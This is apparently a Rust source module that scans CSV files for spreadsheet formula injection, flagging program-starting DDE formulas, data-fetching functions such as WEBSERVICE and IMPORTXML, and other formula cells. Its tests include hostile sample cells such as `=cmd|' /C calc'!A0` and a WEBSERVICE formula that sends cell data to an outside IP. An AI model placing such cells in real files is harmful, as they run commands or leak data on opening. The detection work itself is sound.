//! A CSV file opened in a spreadsheet program: a cell that starts with `=`
//! (or `+`, `-`, `@` before a name) is run as a formula. `=cmd|'/C calc'!A0`
//! starts a program (DDE), `=WEBSERVICE(...)` and Google Sheets'
//! `=IMPORTXML(...)` fetch from another computer; any other formula is
//! named in a warning (its result may not be what the file shows).

use super::Report;

/// Functions that fetch from an address when the sheet is calculated.
const FETCHING: &[&str] = &[
    "WEBSERVICE",
    "IMPORTXML",
    "IMPORTDATA",
    "IMPORTHTML",
    "IMPORTFEED",
    "IMPORTRANGE",
    "IMAGE",
    "FILTERXML",
];

/// Formula cells kept in a report, and how many are shown.
const SHOWN: usize = 5;

pub fn inspect(bytes: &[u8]) -> Report {
    let text = decode(bytes);
    let mut report = Report::default();
    for (line, cell) in every_reading(&text) {
        let Some(formula) = formula(&cell) else {
            continue;
        };
        let upper = formula.to_ascii_uppercase();
        let shown = format!("line {line}: `{}`", clip(formula));
        if upper.contains('|') || upper.contains("DDE(") {
            report
                .macros
                .push(format!("a formula that starts a program, {shown}"));
        } else if let Some(f) = fetching(formula) {
            report
                .fetched
                .push((format!("a {f} formula at line {line}"), clip(formula)));
        } else {
            if report.formulas.is_empty() {
                report.first_line = line;
            }
            if report.formulas.len() < SHOWN {
                report.formulas.push(shown);
            }
            report.formula_count += 1;
        }
    }
    report
}

/// The function of `FETCHING` that `formula` calls, if any: also under a
/// prefix (Excel's `_xlfn.IMAGE(`, LibreOffice's
/// `COM.MICROSOFT.WEBSERVICE(`), in any case.
pub(super) fn fetching(formula: &str) -> Option<&'static str> {
    let upper = formula.to_ascii_uppercase();
    FETCHING
        .iter()
        .find(|f| upper.contains(&format!("{f}(")))
        .copied()
}

/// The formula a cell's text holds: what follows `=`, or a `+`, `-` or `@`
/// before anything but a number (`-2`, `+234 (0) 800-123-4567` and `-5%`
/// are numbers; `-2+3+cmd|' /C calc'!A0` and `+1+IMAGE(…)` are not).
fn formula(cell: &str) -> Option<&str> {
    let t = cell.trim_start_matches([' ', '\t', '\r']);
    let mut chars = t.chars();
    let number = |rest: &str| {
        rest.chars()
            .all(|c| c.is_ascii_digit() || " .,()+-/%\u{a0}".contains(c))
    };
    match chars.next()? {
        '=' if t.len() > 1 => Some(t),
        '+' | '-' | '@' if !chars.as_str().is_empty() && !number(chars.as_str()) => Some(t),
        _ => None,
    }
}

/// The file's text: as its byte-order mark says (Excel saves "Unicode
/// text" as UTF-16), else UTF-8; bad bytes replaced.
fn decode(bytes: &[u8]) -> std::borrow::Cow<'_, str> {
    match encoding_rs::Encoding::for_bom(bytes) {
        Some((enc, bom)) => enc.decode_without_bom_handling(&bytes[bom..]).0,
        None => String::from_utf8_lossy(bytes),
    }
}

/// The cells as each separator would split them: a spreadsheet program
/// splits by its own settings (`,`, or `;` where the decimal mark is a
/// comma), not by what the file's first line suggests. A cell is read
/// once from each place one starts; by line.
fn every_reading(text: &str) -> Vec<(usize, String)> {
    let mut seen = std::collections::HashSet::new();
    let mut out: Vec<(usize, usize, String)> = [b',', b';', b'\t']
        .into_iter()
        .flat_map(|sep| cells(text, sep))
        .filter(|c| seen.insert(c.1))
        .collect();
    out.sort_by_key(|c| (c.0, c.1));
    out.into_iter()
        .map(|(line, _, cell)| (line, cell))
        .collect()
}

/// At most 60 characters of a formula, for a message.
pub(super) fn clip(f: &str) -> String {
    let f = f.trim();
    match f.char_indices().nth(60) {
        Some((i, _)) => format!("{}…", &f[..i]),
        None => f.to_string(),
    }
}

/// Each cell's text with the line and byte it starts at, cells separated
/// by `sep`; a line ends at `\n`, or at a `\r` alone (old Mac files, which
/// Excel reads so).
fn cells(text: &str, sep: u8) -> Vec<(usize, usize, String)> {
    let mut out = Vec::new();
    let mut line = 1;
    let mut start = 0;
    let mut start_line = 1;
    let mut quoted = false;
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        if b == b'"' && (quoted || i == start) {
            if quoted && bytes.get(i + 1) == Some(&b'"') {
                i += 2;
                continue;
            }
            quoted = !quoted;
        }
        let newline = b == b'\n' || (b == b'\r' && bytes.get(i + 1) != Some(&b'\n'));
        if !quoted && (b == sep || newline) {
            out.push((start_line, start, unquote(&text[start..i])));
            start = i + 1;
            start_line = line + usize::from(newline);
        }
        if newline {
            line += 1;
        }
        i += 1;
    }
    if start < bytes.len() {
        out.push((start_line, start, unquote(&text[start..])));
    }
    out
}

/// A cell's text: a quoted one without its quotes, `""` read as `"`.
fn unquote(cell: &str) -> String {
    let cell = cell.strip_suffix('\r').unwrap_or(cell);
    match cell.strip_prefix('"') {
        Some(inner) => inner
            .strip_suffix('"')
            .unwrap_or(inner)
            .replace("\"\"", "\""),
        None => cell.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_that_run_or_fetch_and_numbers_that_do_not() {
        let csv = "name,phone,note\n\
                   Amina,+234 800 123 4567,-2\n\
                   \"Shelter, north\",\"=cmd|' /C calc'!A0\",ok\n\
                   x,=WEBSERVICE(\"https://203.0.113.9/?d=\"&A2),y\n\
                   \"multi\nline\",=SUM(A1:A3),@SUM(1)\n\
                   a,\"=\"\"quoted\"\"\",b\n";
        let r = inspect(csv.as_bytes());
        assert_eq!(
            r.macros,
            ["a formula that starts a program, line 3: `=cmd|' /C calc'!A0`"]
        );
        assert_eq!(r.fetched.len(), 1, "{:?}", r.fetched);
        assert_eq!(r.fetched[0].0, "a WEBSERVICE formula at line 4");
        assert!(
            r.fetched[0]
                .1
                .starts_with("=WEBSERVICE(\"https://203.0.113.9/"),
            "{:?}",
            r.fetched
        );
        assert_eq!(
            r.formulas,
            [
                "line 6: `=SUM(A1:A3)`",
                "line 6: `@SUM(1)`",
                "line 7: `=\"quoted\"`"
            ]
        );
        assert_eq!((r.first_line, r.formula_count), (6, 3));
    }

    /// OWASP's CSV injection cells, and files a spreadsheet program
    /// splits otherwise than their first line suggests.
    #[test]
    fn formulas_behind_a_sign_or_another_split_are_found() {
        let r = inspect(b"a,b\nx,-2+3+cmd|' /C calc'!A0\ny,+1+IMAGE(\"https://x.example/p.png\")\nz,+234 (0) 800-123-4567\nw,-5%\n");
        assert_eq!(
            r.macros,
            ["a formula that starts a program, line 2: `-2+3+cmd|' /C calc'!A0`"]
        );
        assert_eq!(r.fetched.len(), 1, "{:?}", r.fetched);
        assert_eq!(r.formula_count, 0);
        // A `;` header over `,` cells, CR-only lines, UTF-16 with its mark.
        let r = inspect(b"a;b\nx,=cmd|' /C calc'!A0\n");
        assert_eq!(r.macros.len(), 1, "{r:?}");
        let r = inspect(b"a,b\rx,=cmd|' /C calc'!A0\r");
        assert_eq!(
            r.macros,
            ["a formula that starts a program, line 2: `=cmd|' /C calc'!A0`"]
        );
        let utf16: Vec<u8> = [0xff, 0xfe]
            .into_iter()
            .chain(
                "a,b\nx,=WEBSERVICE(\"https://x.example/\")\n"
                    .encode_utf16()
                    .flat_map(u16::to_le_bytes),
            )
            .collect();
        assert_eq!(inspect(&utf16).fetched.len(), 1);
    }

    #[test]
    fn plain_data_says_nothing() {
        let csv = "date,count,change\n2024-01-03,12,-3\n2024-01-04,=,+\n";
        assert_eq!(inspect(csv.as_bytes()), Report::default());
    }
}

#[cfg(test)]
mod separators {
    use super::*;

    #[test]
    fn semicolons_separate_where_the_first_line_uses_them() {
        let r = inspect("a;b\n1,5;=SUM(1,2)\n".as_bytes());
        assert_eq!(r.formulas, ["line 2: `=SUM(1,2)`"]);
        let r = inspect("a,b\n1;5,=SUM(1;2)\n".as_bytes());
        assert_eq!(r.formulas, ["line 2: `=SUM(1;2)`"]);
    }
}
